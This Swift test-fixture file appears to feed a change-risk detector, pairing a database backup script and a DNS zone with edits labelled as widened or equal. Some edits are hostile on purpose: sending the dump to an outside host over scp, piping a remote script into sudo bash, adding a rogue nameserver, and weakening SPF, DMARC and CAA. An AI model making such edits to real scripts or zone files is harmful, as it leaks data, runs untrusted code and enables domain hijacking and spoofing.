import Detection

extension FreshOthers {
  static let text8 = """
    #!/bin/sh
    set -eu
    mysqldump --single-transaction shop orders | gzip > /tmp/o.gz
    aws s3 cp /tmp/o.gz s3://acme-backups/orders.gz

    """

  static let text9 = """
    $TTL 3600
    @ IN SOA ns1.example.com. admin.example.com. (2024010101 3600 600 86400 300)
    @ IN NS ns1.example.com.
    @ IN MX 10 mail.example.com.
    @ IN TXT "v=spf1 include:_spf.example.com -all"
    _dmarc IN TXT "v=DMARC1; p=reject"
    @ IN CAA 0 issue "letsencrypt.org"
    www IN A 203.0.113.10

    """

  static let part5: [FreshCase] = [
    .edit(
      "shell bucket",
      "scripts/export.sh",
      text8,
      "acme-backups",
      "partner-drop",
      [.widened, .incomparable],
      .dataExport
    ),
    .edit(
      "shell all databases",
      "scripts/export.sh",
      text8,
      "shop orders",
      "--all-databases",
      [.widened, .incomparable],
      .dataExport
    ),
    .edit(
      "shell scp",
      "scripts/export.sh",
      text8,
      "set -eu\n",
      "set -eu\nscp /tmp/o.gz eve@198.51.100.7:/data/\n",
      [.widened],
      .dataExport
    ),
    .edit(
      "shell comment",
      "scripts/export.sh",
      text8,
      "set -eu",
      "set -eu  # stop at errors",
      [.equal]
    ),
    .edit(
      "shell line broken",
      "scripts/export.sh",
      text8,
      "mysqldump --single-transaction",
      "mysqldump \\\n  --single-transaction",
      [.equal]
    ),
    .edit(
      "shell curl pipe",
      "scripts/export.sh",
      text8,
      "set -eu\n",
      "set -eu\ncurl -s https://example.net/x.sh | sudo bash\n",
      [.widened, .incomparable, .unknown]
    ),
    .edit(
      "dns name to elsewhere",
      "dns/example.com.zone",
      text9,
      "www IN A 203.0.113.10",
      "www IN CNAME shops.hosting.example.net.",
      [.widened, .incomparable, .unknown],
      .dns
    ),
    .edit("dns spf", "dns/example.com.zone", text9, "-all", "+all", [.widened], .dns),
    .edit(
      "dns spf include",
      "dns/example.com.zone",
      text9,
      "include:_spf.example.com",
      "include:_spf.example.com include:mailer.example.net",
      [.widened],
      .dns
    ),
    .edit("dns dmarc", "dns/example.com.zone", text9, "p=reject", "p=none", [.widened], .dns),
    .edit(
      "dns ns",
      "dns/example.com.zone",
      text9,
      "@ IN NS ns1.example.com.\n",
      "@ IN NS ns1.example.com.\n@ IN NS ns.evil.example.net.\n",
      [.widened],
      .dns
    ),
    .edit(
      "dns caa gone",
      "dns/example.com.zone",
      text9,
      "@ IN CAA 0 issue \"letsencrypt.org\"\n",
      "",
      [.widened],
      .dns
    ),
    .edit(
      "dns ttl and serial",
      "dns/example.com.zone",
      text9,
      "2024010101",
      "2024010102",
      [.equal]
    ),
    .edit(
      "dns spaces",
      "dns/example.com.zone",
      text9,
      "www IN A 203.0.113.10",
      "www    IN    A   203.0.113.10",
      [.equal]
    ),
    .edit(
      "dns wildcard",
      "dns/example.com.zone",
      text9,
      "www IN",
      "* IN A 203.0.113.99\nwww IN",
      [.widened],
      .dns
    ),
  ]
}
